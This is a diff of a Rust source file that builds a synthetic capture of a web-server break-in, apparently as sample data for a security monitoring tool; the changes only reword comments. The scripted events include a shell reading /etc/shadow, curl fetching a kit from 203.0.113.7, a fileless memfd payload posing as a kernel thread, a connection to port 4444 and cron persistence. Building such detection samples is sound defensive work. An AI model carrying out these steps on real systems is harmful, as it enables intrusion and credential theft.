@@ -1,5 +1,5 @@
-//! The capture that ships with the project: a web server is broken into. Told with our own writer, so
-//! that it needs no recording of a real machine.
+//! The capture that ships with the project: a break-in at a web server. It is synthesised with the
+//! project's own writer, so that it contains no recording of a real machine.
 
 use std::fs::File;
 use std::net::{Ipv4Addr, SocketAddrV4};
@@ -91,7 +91,7 @@ fn machine() -> Vec<Item> {
     items
 }
 
-/// What happens, event by event.
+/// The story, event by event.
 struct Scene {
     now: u64,
     builder: Builder,
@@ -100,7 +100,7 @@ struct Scene {
 
 impl Scene {
     fn play(&mut self) -> Result<()> {
-        // A request makes the server spawn a shell, which looks around.
+        // A request makes the server spawn a shell, which explores the system.
         self.fork(NGINX, SHELL, "nginx", "/usr/sbin/nginx", WWW)?;
         self.exec(SHELL, NGINX, "/usr/bin/dash", &["sh", "-c", "id; cat /etc/shadow"], WWW, 0)?;
         self.child(2202, "/usr/bin/id", &["id"], WWW, |_| Ok(()))?;
@@ -108,7 +108,7 @@ impl Scene {
             s.open(2203, 3, "/etc/shadow", O_RDONLY)?;
             s.close(2203, 3)
         })?;
-        // It fetches a tool that never touches the disk, and calls home.
+        // It fetches a tool that never touches the disk, and connects to a remote host.
         self.child(2204, "/usr/bin/curl", &["curl", "-s", "http://203.0.113.7/kit"], ROOT, |s| {
             s.connect(2204, 3, SocketAddrV4::new(Ipv4Addr::new(203, 0, 113, 7), 80))?;
             s.close(2204, 3)
@@ -117,7 +117,7 @@ impl Scene {
         self.event(EventType::SyscallMemfdCreateX, 2205, |b| b.i64(3).text("kit").u32(0))?;
         self.exec(2205, SHELL, "memfd:kit", &["[kworker/0:1]"], ROOT, EXE_FROM_MEMFD)?;
         self.connect(2205, 4, SocketAddrV4::new(Ipv4Addr::new(203, 0, 113, 7), 4444))?;
-        // It makes itself at home.
+        // It establishes persistence.
         self.open(2205, 5, "/etc/cron.d/refresh", O_WRONLY | O_CREAT)?;
         self.close(2205, 5)?;
         self.open(2205, 5, "/usr/bin/ls", O_WRONLY)?;
@@ -162,7 +162,7 @@ impl Scene {
         flags: u32,
     ) -> Result<()> {
         let (name, args) = argv.split_first().context("a program has a name")?;
-        // The kernel keeps 15 bytes.
+        // The kernel keeps 15 bytes of a name.
         let comm = name.get(..15).unwrap_or(name);
         self.event(EventType::SyscallExecve_19X, pid, |b| {
             b.i64(0).text(name).texts(args).i64(pid).i64(pid).i64(ptid).text("").u64(1024);
